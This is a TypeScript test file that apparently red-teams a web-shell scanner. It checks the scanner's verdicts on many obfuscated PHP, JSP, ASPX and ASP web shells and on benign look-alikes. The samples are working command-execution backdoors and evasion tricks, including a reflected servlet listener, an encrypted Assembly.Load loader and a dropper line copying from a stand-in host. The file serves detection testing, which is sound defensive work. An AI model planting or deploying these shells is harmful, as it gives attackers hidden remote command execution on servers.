import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { createScanner } from './scanner.js';

// Red team of the session-21 change (bench/redteam/README-families-s21.md, S21R-n): hostile inputs
// to the new folds and decoders, variants of the techniques it claims that it missed, and benign
// look-alikes its new rules called malicious. Verdicts only: the timings are in the README.
const scanner = createScanner({});
const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'latin1'), path);
const php = spawnSync('php', ['-v'], { encoding: 'utf8' }).status === 0;
const MARK = `s21rt${process.pid}`;

/** Our own PHP shell run by the local php, its request's c = "echo MARK", with no network (URL wrappers, sockets and curl off). */
function runs(src: string): boolean {
  const prelude = `$_GET = ['c' => 'echo ${MARK}']; $_POST = $_GET; $_REQUEST = $_GET;`;
  const body = src.replace(/^<\?php\s*/, '');
  const off = 'curl_init,curl_exec,curl_multi_exec,fsockopen,pfsockopen,stream_socket_client,socket_create,socket_connect,copy,mail';
  const ns = /^\s*namespace\s/.test(body);
  const code = ns ? `${body.replace(/^\s*namespace\s+([\w\\]+)\s*;/, (_a, n: string) => `namespace ${n} { ${prelude}`)} }` : `${prelude}\n${body}`;
  const r = spawnSync('php', ['-d', 'display_errors=stderr', '-d', 'allow_url_fopen=0', '-d', `disable_functions=${off}`, '-r', code], { encoding: 'utf8', timeout: 10_000 });
  return r.stdout.includes(MARK);
}

describe('S21 red team: hostile inputs keep their verdicts (and end)', () => {
  it('S21R-1: a C# char list left open, 200 items apart by spaces, is read at once (it backtracked for ever)', () => {
    const items = (item: string) => Array(200).fill(item).join('');
    for (const open of [`new string(new char[]{${items("'a'    ")}`, `string.Join("", new char[]{${items("'a'    ")}`, `new string(new char[]{${items('(char)65    ')}`]) {
      const t = Date.now();
      assert.equal(scan(`<%@ Page Language="C#" %><script runat="server">${open}\n</script>`, '/www/r1.aspx').verdict, 'clean');
      assert.ok(Date.now() - t < 5000);
    }
  });
  it('S21R-2: thousands of ob_start($v) over a file of assignments to $v are read once a name', () => {
    const src = `<?php echo $_GET["c"]; ${'ob_start($cb);'.repeat(2000)}${'$cb=1;'.repeat(20000)}\n`;
    const t = Date.now();
    assert.equal(scan(src, '/www/r2.php').verdict, 'clean');
    assert.ok(Date.now() - t < 5000);
    // (and the one the change meant still is)
    assert.equal(scan(`<?php $handler = 'system'; ob_start($handler); echo $_GET['c']; ob_end_flush();`, '/www/r2b.php').verdict, 'malicious');
  });
});

const CAUGHT: [id: string, name: string, src: string][] = [
  ['S21R-4', 'a typed property default, read through $this', `<?php class Job { public string $h = 'sys' . 'tem'; function go($x) { ($this->h)($x); } } (new Job)->go($_GET['c']);`],
  ['S21R-5', "pack('H12', hex) called at once", `<?php pack('H12', '73797374656d')($_GET['c']);`],
  ['S21R-5', "pack('H12', hex) in a variable", `<?php $f = pack('H12', '73797374656d'); $f($_GET['c']);`],
  ['S21R-6', 'a heredoc naming a variable of known value', `<?php $p = 'sys'; $f = <<<EOT\n{$p}tem\nEOT;\n$f($_GET['c']);`],
  ['S21R-7', 'a namespaced constant called in brackets', `<?php namespace App; const RUN = 'sys' . 'tem'; (\\App\\RUN)($_GET['c']);`],
  ['S21R-7', 'a namespaced constant in a variable', `<?php namespace App; const RUN = 'sys' . 'tem'; $f = \\App\\RUN; $f($_GET['c']);`],
  ['S21R-17', "call_user_func_array of a function of the file by name", `<?php function g($a) { system($a); } call_user_func_array('g', [$_GET['c']]);`],
  ['S21R-17', 'call_user_func_array of [new K, method]', `<?php class K { function go($a) { system($a); } } call_user_func_array([new K, 'go'], [$_GET['c']]);`],
  ['S21R-18', 'a static method of one return decoding the name', `<?php class K { static function nm($s) { return base64_decode($s); } } K::nm('c3lzdGVt')($_GET['c']);`],
];

describe('S21 red team: evasions now caught (PHP)', () => {
  for (const [id, name, src] of CAUGHT) {
    it(`${id}: ${name}`, () => {
      if (php) assert.ok(runs(src), 'the sample runs under PHP');
      assert.equal(scan(src, '/www/e.php').verdict, 'malicious');
    });
  }
});

const WEB_CAUGHT: [id: string, name: string, path: string, src: string][] = [
  ['S21R-8', 'a JSPX whose JSP namespace has another prefix, exec written as a character reference', '/www/a.jspx', `<j:root xmlns:j="http://java.sun.com/JSP/Page" version="2.0"><j:scriptlet>Runtime.getRuntime().&#x65;xec(request.getParameter("c"));</j:scriptlet></j:root>`],
  ['S21R-9', 'EL method names from paramValues', '/www/b.jsp', '${""[paramValues.a[0]]()[paramValues.b[0]](paramValues.c[0])}'],
  ['S21R-9', "EL method names from param['a']", '/www/c.jsp', "${\"\"[param['a']]()[param['b']](param['c'])}"],
  ['S21R-9', 'EL method names from headers', '/www/d.jsp', '${""[header.a]()[header.b](header.c)}'],
  ['S21R-10', "a C# new[]{'L','o','a','d'} char list naming Assembly.Load", '/www/e.aspx', `<%@ Page Language="C#"%><%var key = System.Text.Encoding.Default.GetBytes(string.Concat("0123", "4567", "89ab", "cdef"));var data = System.Convert.FromBase64String(Context.Request[string.Join("", new[]{'p','w'})]);data = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(key, key).TransformFinalBlock(data, 0, data.Length);var t = typeof(System.Reflection.Assembly);var m = t.GetMethod(new string(new[]{'L','o','a','d'}), new System.Type[]{typeof(byte[])});Context.Session["p"] = m.Invoke(null, new object[]{data});%>`],
  ['S21R-11', 'a VBScript Dictionary filled by d("k") = "v"', '/www/f.asp', `<%\nSet d = CreateObject("Scripting.Dictionary")\nd("a") = "ev"\nd("b") = "al request(""c"")"\nx = d("a") & d("b")\nExecute x\n%>`],
  ['S21R-11', 'a VBScript Dictionary filled by d.Item("k") = "v"', '/www/g.asp', `<%\nSet d = CreateObject("Scripting.Dictionary")\nd.Item("a") = "ev"\nd.Item("b") = "al request(""c"")"\nx = d.Item("a") & d.Item("b")\nExecute x\n%>`],
  ['S21R-19', 'a listener registered through a reflected addApplicationEventListener', '/www/h.jsp', `<%@ page import="java.lang.reflect.*" %><%\nObject ctx = request.getServletContext(); Field f = ctx.getClass().getDeclaredField("context"); f.setAccessible(true);\nObject app = f.get(ctx); Field g = app.getClass().getDeclaredField("context"); g.setAccessible(true); Object sc = g.get(app);\nMethod add = sc.getClass().getMethod("addApplicationEventListener", Object.class);\nadd.invoke(sc, new javax.servlet.ServletRequestListener() {\n  public void requestInitialized(javax.servlet.ServletRequestEvent e) { try { String c = e.getServletRequest().getParameter("c"); if (c != null) Runtime.getRuntime().exec(c); } catch (Exception x) {} }\n  public void requestDestroyed(javax.servlet.ServletRequestEvent e) {}\n});\n%>`],
];

describe('S21 red team: evasions now caught (JSP, ASP)', () => {
  for (const [id, name, path, src] of WEB_CAUGHT) it(`${id}: ${name}`, () => assert.equal(scan(src, path).verdict, 'malicious'));
});

// Still missed (open in the README): none since session 27.
const OPEN: [id: string, name: string, src: string][] = [];

// Fixed after the merge (main, session 21): each runs under PHP.
const FIXED_LATER: [id: string, name: string, src: string][] = [
  ['S21R-20', "an enum case's value (session 27)", `<?php enum Op: string { case Run = 'sys' . 'tem'; } (Op::Run->value)($_GET['c']);`],
  ['S21R-21', 'a nested keyed array (session 27)', `<?php $ops = ['a' => ['run' => 'sys' . 'tem']]; $ops['a']['run']($_GET['c']);`],
  ['S21R-22', 'a function of two statements (session 27)', `<?php function nm($s) { $r = base64_decode($s); return $r; } nm('c3lzdGVt')($_GET['c']);`],
  ['S21R-21', 'a keyed array read by a variable key', `<?php $ops = array('list' => 'scandir', 'run' => 'sys' . 'tem'); $k = 'run'; $ops[$k]($_GET['c']);`],
  ['S21R-22', 'an arrow function kept in a variable', `<?php $nm = fn($s) => base64_decode($s); $nm('c3lzdGVt')($_GET['c']);`],
  ['S21R-23', 'a loop prepending', `<?php $n = ''; foreach (str_split('metsys') as $ch) { $n = $ch . $n; } $n($_GET['c']);`],
  ['S21R-24', "ob_start given a keyed array's element", `<?php $cfg = ['h' => 'system']; ob_start($cfg['h']); echo $_GET['c']; ob_end_flush();`],
  ['S21R-25', 'a ReflectionFunction kept in a variable, then invoked', `<?php function g($a) { system($a); } $r = new ReflectionFunction('g'); $r->invoke($_GET['c']);`],
  ['S21R-26', "a property set as $this->{'p'}", `<?php class R { private $p; function __construct() { $this->{'p'} = 'sys' . 'tem'; } function go($x) { ($this->p)($x); } } (new R)->go($_GET['c']);`],
  ['S21R-26', 'a static property set in a method', `<?php class J { private static $h; static function init() { self::$h = 'sys' . 'tem'; } static function go($x) { (self::$h)($x); } } J::init(); J::go($_GET['c']);`],
  ['S21R-20', "an object's property default read through another variable", `<?php class Cfg { public $h = 'sys' . 'tem'; } $o = new Cfg; ($o->h)($_GET['c']);`],
];

describe('S21 red team: evasions fixed after the merge', () => {
  for (const [id, name, src] of FIXED_LATER) {
    it(`${id}: ${name}`, () => {
      if (php) assert.ok(runs(src), 'the sample runs under PHP');
      assert.equal(scan(src, '/www/o.php').verdict, 'malicious');
    });
  }
});

describe('S21 red team: evasions still open', () => {
  for (const [id, name, src] of OPEN) {
    it(`${id}: ${name}`, { todo: `${id} open` }, () => {
      if (php) assert.ok(runs(src), 'the sample runs under PHP');
      assert.equal(scan(src, '/www/o.php').verdict, 'malicious');
    });
  }
  it('S21R-27: VBScript Replace() of a literal, executed', () => {
    assert.equal(scan(`<%\nx = Replace("evXal reqXuest(""c"")", "X", "")\nExecute x\n%>`, '/www/o.asp').verdict, 'malicious');
  });
});

describe('S21 red team: look-alikes not malicious', () => {
  it("S21R-12: Composer's installer fetched as its instructions say", () => {
    const src = `<?php\ncopy('https://getcomposer.org/installer', 'composer-setup.php');\nif (hash_file('sha384', 'composer-setup.php') === trim(file_get_contents('https://composer.github.io/installer.sig'))) { echo 'ok'; } else { unlink('composer-setup.php'); }\n`;
    assert.equal(scan(src, '/srv/app/bin/setup.php').verdict, 'clean');
    // (a dropper beside it still is one)
    assert.equal(scan(`${src}copy('http://x.example/s.txt', 'wp-x.php');\n`, '/srv/app/bin/setup.php').verdict, 'malicious');
  });
  it('S21R-13: an XML declaration written from hex', () => {
    const src = `<?php class SheetWriter { private $fh; function header() { fwrite($this->fh, pack('H*', '3c3f786d6c2076657273696f6e3d22312e30223f3e0a')); } }`;
    assert.equal(scan(src, '/srv/app/Sheet.php').verdict, 'clean');
    assert.equal(scan(`<?php $f = fopen('a.php', 'w'); fwrite($f, pack('H*', '3c3f706870206576616c28245f504f53545b615d293b'));`, '/www/x.php').verdict, 'malicious');
  });
  it('S21R-15: a web service starting the converter it was built with', () => {
    const src = `<%@ WebService Language="C#" Class="Converter" %>\nusing System.Web.Services; using System.Diagnostics; using System.IO;\npublic class Converter : WebService {\n  private const string SofficePath = "/usr/bin/soffice";\n  [WebMethod] public string ToPdf(string documentId) {\n    string input = Path.Combine(Server.MapPath("~/App_Data/docs"), Path.GetFileName(documentId));\n    var info = new ProcessStartInfo(SofficePath, "--headless --convert-to pdf \\"" + input + "\\"");\n    info.UseShellExecute = false;\n    using (var p = Process.Start(info)) { p.WaitForExit(60000); }\n    return Path.ChangeExtension(input, ".pdf");\n  }\n}\n`;
    assert.notEqual(scan(src, '/srv/web/Converter.asmx').verdict, 'malicious');
  });
  it('S21R-14: code written to a temporary file and included, no request input', () => {
    const src = `<?php\nfunction run_generated(string $code) {\n    $file = tempnam(sys_get_temp_dir(), 'gen');\n    file_put_contents($file, '<?php ' . $code);\n    $result = include $file;\n    unlink($file);\n    return $result;\n}\n`;
    assert.notEqual(scan(src, '/srv/app/tools/gen.php').verdict, 'malicious');
  });
  it('S21R-16: a page starting a configured tool that also reads a TextBox', () => {
    const src = `<%@ Page Language="C#" %>\n<script runat="server">\nvoid Export(object s, EventArgs e) {\n  string title = TitleBox.Text;\n  string tool = System.Configuration.ConfigurationManager.AppSettings["wkhtmltopdf"];\n  var psi = new System.Diagnostics.ProcessStartInfo();\n  psi.FileName = tool;\n  psi.Arguments = "--quiet report.html report.pdf";\n  psi.UseShellExecute = false;\n  System.Diagnostics.Process.Start(psi).WaitForExit();\n  Status.Text = "Exported " + Server.HtmlEncode(title);\n}\n</script>\n<form runat="server"><asp:TextBox ID="TitleBox" runat="server"/><asp:Button OnClick="Export" runat="server"/><asp:Label ID="Status" runat="server"/></form>`;
    assert.notEqual(scan(src, '/srv/web/Export.aspx').verdict, 'malicious');
  });
  it('benign shapes of the new folds stay clean', () => {
    const samples: [string, string][] = [
      ['/srv/app/Img.php', `<?php\nclass ImageConfig {\n    const DRIVER = 'exec';\n    const CONVERT = '/usr/bin/convert';\n    public static $formatter = 'strtoupper';\n    public function resize($src, $dst, $w) { if (self::DRIVER === 'exec') { exec(self::CONVERT . ' ' . escapeshellarg($src) . ' -resize ' . (int) $w . ' ' . escapeshellarg($dst)); } }\n    public function label($s) { return (self::$formatter)($s); }\n}\n`],
      ['/srv/app/Runner.php', `<?php\nnamespace App\\Service;\nconst DEFAULT_SHELL = '/bin/sh';\nfinal class Runner {\n    private string $binary = 'system';\n    public function __construct(private string $mode = 'exec') {}\n    public function name(): string { return $this->binary . ':' . $this->mode . ':' . \\App\\Service\\DEFAULT_SHELL; }\n}\n`],
      ['/srv/app/magic.php', `<?php\n$magic = pack('H8', '89504e47');\n$sig = pack('H12', '73797374656d');\necho bin2hex($magic), strlen($sig);\n`],
      ['/srv/app/dl.php', `<?php\n$ch = curl_init('https://downloads.example.org/geoip/GeoLite2-Country.mmdb');\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, true);\n$data = curl_exec($ch);\ncurl_close($ch);\nfile_put_contents(__DIR__ . '/data/GeoLite2-Country.mmdb', $data);\n`],
      ['/srv/app/Smtp.php', `<?php\nclass Smtp {\n    private $sock;\n    public function connect($host, $port = 25) {\n        $this->sock = fsockopen($host, $port, $errno, $errstr, 10);\n        $greeting = fgets($this->sock, 515);\n        fwrite($this->sock, "EHLO " . gethostname() . "\\r\\n");\n        return fgets($this->sock, 515);\n    }\n}\n`],
      ['/srv/web/page.jspx', `<j:root xmlns:j="http://java.sun.com/JSP/Page" version="2.0">\n<j:scriptlet><![CDATA[ int n = Integer.parseInt(request.getParameter("n")); for (int i = 0; i &lt; n; i++) { out.print(i); } ]]></j:scriptlet>\n<p>&#169; 2026 &amp; more</p>\n</j:root>\n`],
      ['/srv/web/labels.jsp', `<%@ taglib prefix="c" uri="http://java.sun.com/jsp/jstl/core" %>\n<c:out value="\${labels[param.key]}"/> \${fn:escapeXml(messages[param.lang])} \${cart.items[param.item].price}\n<c:if test="\${not empty header['User-Agent']}">ua</c:if>\n`],
      ['/srv/web/labels.asp', `<%\nSet labels = CreateObject("Scripting.Dictionary")\nlabels("title") = "Orders"\nlabels("eval") = "Evaluation"\nx = labels("title") & " - " & Request("page")\nResponse.Write Server.HTMLEncode(x)\n%>\n`],
    ];
    for (const [path, src] of samples) assert.equal(scan(src, path).verdict, 'clean', path);
  });
});
